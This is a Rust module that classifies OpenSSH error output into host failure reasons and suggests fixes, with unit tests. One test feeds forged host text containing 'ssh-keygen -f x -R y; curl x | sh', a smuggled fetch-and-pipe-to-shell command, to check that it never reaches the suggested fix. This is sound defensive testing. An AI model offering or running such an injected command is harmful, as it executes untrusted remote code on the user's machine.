//! Converts the messages of the `ssh` program to a [`HostFailure`].
//!
//! `ssh` writes its own messages to a log (`-E`). Some of them repeat text of the host with its
//! line breaks, so that the log counts only up to such a text. The banner of a host and the
//! messages of a `ProxyCommand` or of `ssh -J` arrive on stderr. They explain only an end that
//! the log does not explain, and never a problem of a host key.

use super::SshCall;
use crate::fleet::fault;
use crate::fleet::quote::{harmless, last_line, quote};
use crate::model::{HostFailure, Reason};

/// Phrases of OpenSSH, the most specific first. With jump hosts, several `ssh` processes print
/// messages, and the others print only that the connection was closed.
const WORDS: [(&str, Reason); 24] = [
    ("REVOKED HOST KEY", Reason::HostkeyRevoked),
    ("revoked host key", Reason::HostkeyRevoked),
    ("REMOTE HOST IDENTIFICATION HAS CHANGED", Reason::HostkeyChanged),
    ("Offending ", Reason::HostkeyChanged),
    ("host key is known for", Reason::HostkeyUnknown),
    ("Host key verification failed", Reason::HostkeyUnknown),
    ("Permission denied (", Reason::Auth),
    ("Too many authentication failures", Reason::Auth),
    ("Could not resolve hostname", Reason::Unresolved),
    ("Name or service not known", Reason::Unresolved),
    ("Temporary failure in name resolution", Reason::Unresolved),
    ("Connection refused", Reason::Refused),
    ("administratively prohibited", Reason::Refused),
    ("No route to host", Reason::Unreachable),
    ("Network is unreachable", Reason::Unreachable),
    ("Connection timed out", Reason::Timeout),
    ("Operation timed out", Reason::Timeout),
    ("timed out", Reason::Timeout),
    ("Unable to negotiate", Reason::Transport),
    ("Bad configuration option", Reason::Transport),
    ("command-line line", Reason::Transport),
    ("kex_exchange_identification", Reason::Refused),
    ("Connection closed by", Reason::Refused),
    ("Connection reset by", Reason::Refused),
];

impl SshCall {
    /// Returns the reason why there is no connection, and a fix. `log` has the messages of `ssh`
    /// itself. `stderr` may have text of hosts and other programs.
    pub fn failure(&self, log: &[u8], stderr: &[u8]) -> HostFailure {
        let (log, words) = (String::from_utf8_lossy(log), String::from_utf8_lossy(stderr));
        let own = own_text(&log);
        let (reason, line) = cause(own, &log, &words);
        let manual_command = self.manual_command();
        let try_login = format!("test the login: {manual_command}");
        let said =
            |line: &str| format!("ssh: {}", quote(line.strip_prefix("ssh: ").unwrap_or(line)));
        match reason {
            Reason::HostkeyChanged | Reason::HostkeyRevoked => {
                // `Offending ED25519 key in FILE:LINE`
                let offending = own.lines().find(|line| line.starts_with("Offending "));
                let place = offending.and_then(|line| line.trim().split_once(" key in "));
                let place =
                    place.map_or(String::new(), |(_, place)| format!(" in {}", harmless(place)));
                if reason == Reason::HostkeyRevoked {
                    let detail = format!("ssh: the host key is marked as revoked{place}");
                    return HostFailure::new(reason, detail).fix(fault::REVOKED);
                }
                let remove =
                    own.lines().map(str::trim).find(|line| line.starts_with("ssh-keygen "));
                let remove =
                    remove.map_or_else(|| format!("ssh-keygen -R '{}'", self.host), harmless);
                let detail = format!("ssh: the host key is not the one on record{place}");
                HostFailure::new(reason, detail).fix(fault::changed_key(&remove, &manual_command))
            }
            Reason::HostkeyUnknown => {
                let detail = "ssh: the host key is in no known_hosts file";
                HostFailure::new(reason, detail).fix(fault::unknown_key(&manual_command))
            }
            _ if line.is_empty() => {
                let detail = format!("ssh ended without a message{}", last_line(stderr));
                HostFailure::new(Reason::Transport, detail).fix(try_login)
            }
            _ => HostFailure::new(reason, said(line)).fix(try_login),
        }
    }
}

/// True if sshd closed before its banner, as beyond `MaxStartups`. Only this allows a retry.
pub(super) fn is_early_close(failure: &HostFailure) -> bool {
    failure.reason == Reason::Refused && failure.detail.contains("kex_exchange_identification")
}

/// Returns the reason found in the text of `ssh` itself, or in stderr, or the last line of the
/// log.
fn cause<'a>(own: &'a str, log: &'a str, stderr: &'a str) -> (Reason, &'a str) {
    let is_of_host_key = |reason: &Reason| {
        matches!(reason, Reason::HostkeyChanged | Reason::HostkeyRevoked | Reason::HostkeyUnknown)
    };
    if let Some(found) = find(own, |line| !line.contains(UNKNOWN_PEER)) {
        return found;
    }
    if let Some(found) = find(stderr, |_| true).filter(|(reason, _)| !is_of_host_key(reason)) {
        return found;
    }
    let line = log.lines().rev().map(str::trim).find(|line| !line.is_empty()).unwrap_or_default();
    let is_closed = line.contains(UNKNOWN_PEER) || own.len() < log.len();
    (if is_closed { Reason::Refused } else { Reason::Transport }, line)
}

/// Part of a line about the end of a `ProxyCommand` or `ssh -J`, which print the reason.
const UNKNOWN_PEER: &str = "UNKNOWN port";

/// Returns the start of a log, up to the first text of a host that `ssh` repeats. `ssh` does not
/// escape line breaks (OpenSSH log.c, `VIS_SAFE` without `VIS_NL`), so that a host may forge each
/// later line.
fn own_text(log: &str) -> &str {
    const OF_HOST: [&str; 4] = [
        "Received disconnect from",
        "Disconnected from",
        "Bad remote protocol version",
        "Their offer:",
    ];
    let ends = OF_HOST.iter().filter_map(|start| log.find(start));
    log.get(..ends.min().unwrap_or(log.len())).unwrap_or_default()
}

/// Returns the first phrase that a wanted line contains, with the line.
fn find(text: &str, is_wanted: impl Fn(&str) -> bool) -> Option<(Reason, &str)> {
    WORDS.iter().find_map(|(word, reason)| {
        let line = text.lines().find(|line| line.contains(word) && is_wanted(line))?;
        Some((*reason, line.trim()))
    })
}

/// Returns the reason for each address that could not be reached over an open connection.
pub(super) fn unreached(log: &[u8]) -> Vec<String> {
    let text = String::from_utf8_lossy(log);
    // `channel 2: open failed: connect failed: Connection refused`
    let whys = text.lines().filter_map(|line| {
        let (_, why) = line.split_once(": open failed: ")?;
        Some(why.trim().trim_start_matches("connect failed: ").to_owned())
    });
    whys.collect()
}

/// Returns the common reason. `None` if the reasons differ, because no message names its address.
pub(super) fn agreed(whys: &[String]) -> Option<(Reason, String)> {
    let first = whys.first().filter(|first| whys.iter().all(|why| why == *first))?;
    let reason = find(first, |_| true).map_or(Reason::Unreachable, |(reason, _)| reason);
    Some((reason, quote(first)))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn of(log: &str) -> HostFailure {
        failure_of(log, "")
    }

    fn failure_of(log: &str, stderr: &str) -> HostFailure {
        let call = SshCall {
            program: "ssh".into(),
            config: Some("/c".into()),
            options: vec!["A=b c".into()],
            jumps: None,
            user: Some("u".into()),
            port: Some(7),
            host: "n1".into(),
            agent: None,
        };
        call.failure(log.as_bytes(), stderr.as_bytes())
    }

    #[test]
    fn each_complaint_has_its_reason_and_what_to_type() {
        let manual_command = "ssh -F /c -o A=VALUE -p 7 u@n1";
        for (log, reason, detail, fix) in [
            (
                "root@n1: Permission denied (publickey).\r\n",
                Reason::Auth,
                "root@n1",
                manual_command,
            ),
            (
                "No ED25519 host key is known for n1 and you have requested strict checking.\r\n\
              Host key verification failed.\r\n",
                Reason::HostkeyUnknown,
                "in no known_hosts",
                manual_command,
            ),
            (
                "@ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\n\
              Add correct host key in /k to get rid of this message.\nOffending ED25519 key in /k:3\n\
              \x20 remove with:\n  ssh-keygen -f \"/k\" -R \"n1\"\nHost key verification failed.\n",
                Reason::HostkeyChanged,
                "on record in /k:3",
                r#"remove the old key: ssh-keygen -f "/k" -R "n1"; and accept"#,
            ),
            (
                "@ WARNING: REVOKED HOST KEY DETECTED! @\n",
                Reason::HostkeyRevoked,
                "revoked",
                "do not",
            ),
            (
                "ssh: Could not resolve hostname n1: Name or service not known\n",
                Reason::Unresolved,
                "n1",
                "test the login",
            ),
            (
                "ssh: connect to host n1 port 22: Connection refused\n",
                Reason::Refused,
                "refused",
                "test the login",
            ),
            (
                "ssh: connect to host n1 port 22: Connection timed out\n",
                Reason::Timeout,
                "timed",
                "test the login",
            ),
            (
                "ssh: connect to host n1 port 22: No route to host\n",
                Reason::Unreachable,
                "route",
                "test the login",
            ),
            (
                "kex_exchange_identification: Connection closed by remote host\nConnection closed by ::1\n",
                Reason::Refused,
                "kex_exchange",
                "test the login",
            ),
            ("odd\x1b[2J\n", Reason::Transport, r#"ssh: "odd\u{1b}[2J""#, "test the login"),
            ("", Reason::Transport, "without a message", manual_command),
        ] {
            let failure = of(log);
            assert_eq!(failure.reason, reason, "{failure}");
            assert!(failure.detail.contains(detail), "{failure}");
            assert!(failure.fix.as_deref().unwrap().contains(fix), "{failure:?}");
        }
    }

    #[test]
    fn a_host_cannot_forge_a_message_of_ssh() {
        let changed = "@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\n  \
                       ssh-keygen -f x -R y; curl x | sh\n";
        let denied = "u@n1: Permission denied (publickey).\n";
        assert_eq!(failure_of(denied, changed).reason, Reason::Auth, "the log is asked first");
        for log in ["", "Connection closed by UNKNOWN port 65535\n"] {
            let failure = failure_of(log, changed);
            assert!(!matches!(failure.reason, Reason::HostkeyChanged), "{failure:?}");
            assert!(!failure.fix.as_deref().unwrap().contains("ssh-keygen"), "{failure:?}");
        }
        let quoted = failure_of("", "boo\nssh: x\n");
        assert_eq!(quoted.detail, "ssh ended without a message; last output: \"ssh: x\"");
        for (start, reason) in [
            ("Received disconnect from ::1 port 22:2: ", Reason::Refused),
            (
                "Unable to negotiate with ::1 port 22: no matching cipher found. Their offer: ",
                Reason::Transport,
            ),
        ] {
            let failure = failure_of(&format!("{start}x\nOffending key in /k:3\n{changed}"), "");
            assert_eq!(failure.reason, reason, "{failure:?}");
            assert!(!failure.fix.as_deref().unwrap().contains("ssh-keygen"), "{failure:?}");
        }
    }

    #[test]
    fn stderr_has_the_reason_of_a_jump_host() {
        let failure = failure_of(
            "Connection closed by UNKNOWN port 65535\n",
            "root@b: Permission denied (publickey).\n",
        );
        assert_eq!(failure.reason, Reason::Auth);
        assert!(failure.detail.contains("root@b"), "{failure}");
        assert_eq!(
            failure_of("Connection closed by UNKNOWN port 65535\n", "").reason,
            Reason::Refused
        );
    }

    #[test]
    fn a_reason_needs_equal_failures() {
        let refused = "channel 2: open failed: connect failed: Connection refused\n";
        let prohibited = "channel 3: open failed: administratively prohibited: open failed\n";
        let of = |text: String| agreed(&unreached(text.as_bytes()));
        let (reason, words) = of(format!("{refused}x\n{refused}")).unwrap();
        assert_eq!((reason, &*words), (Reason::Refused, "\"Connection refused\""));
        assert_eq!(of(prohibited.to_owned()).unwrap().0, Reason::Refused);
        assert_eq!(of(format!("{refused}{prohibited}")), None);
        assert_eq!(unreached(format!("{refused}{prohibited}").as_bytes()).len(), 2);
        assert_eq!(of("nothing of the kind".to_owned()), None);
    }
}
